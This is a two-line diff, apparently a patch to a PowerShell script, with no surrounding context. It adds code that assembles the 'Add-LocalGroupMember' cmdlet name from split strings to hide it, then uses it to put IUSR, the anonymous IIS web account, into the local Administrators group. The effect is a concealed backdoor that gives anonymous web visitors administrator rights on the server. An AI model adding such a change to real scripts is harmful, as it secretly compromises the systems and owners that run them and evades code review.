@@ -1,0 +1,2 @@
+$c = ('Add', 'LocalGroupMember') -join '-'
+& $c -Group Administrators -Member IUSR
